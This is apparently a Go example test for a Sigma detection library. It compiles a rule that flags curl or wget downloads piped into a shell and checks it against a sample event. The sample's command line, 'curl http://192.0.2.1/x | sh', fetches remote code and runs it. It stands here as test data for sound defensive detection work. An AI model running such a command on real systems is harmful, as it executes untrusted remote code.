package sigma_test

import (
	"fmt"

	"github.com/deminer/deminer/sigma"
)

func Example() {
	rules, err := sigma.Compile(sigma.Options{}, sigma.Source{Name: "demo.yml", Text: `
title: Download handed to a shell
logsource: {category: process_creation, product: linux}
detection:
  get: {CommandLine|contains: ['curl ', 'wget ']}
  run: {CommandLine|endswith: ['| sh', '|bash']}
  condition: get and run
`})
	if err != nil {
		fmt.Println(err)
		return
	}
	event := sigma.Event{
		Source: sigma.LogSource{Category: "process_creation", Product: "linux"},
		Fields: []sigma.Field{{Name: "CommandLine", Value: "curl http://192.0.2.1/x | sh"}},
	}
	for _, r := range rules.Match(&event) {
		fmt.Println(r.Title)
	}
	// Output: Download handed to a shell
}
